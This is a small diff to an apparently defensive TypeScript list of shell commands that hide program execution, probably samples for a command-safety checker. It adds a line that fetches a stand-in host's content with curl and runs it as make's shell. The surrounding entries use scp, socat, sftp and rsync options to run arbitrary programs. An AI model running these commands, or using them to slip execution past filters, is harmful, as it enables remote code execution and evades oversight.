@@ -9,6 +9,7 @@ const kinds: readonly HiddenKind[] = [
       'scp -S "$PROGRAM" a h:b',
       'socat - "EXEC:$LINE"',
       'make SHELL="$PROGRAM" all',
+      'SHELL=$(curl -s https://x.example/s); make SHELL=$SHELL all',
       'sftp -D /var/tmp/x',
       'sftp -S /tmp/x h',
       'rsync -e /tmp/x.sh a h:b',
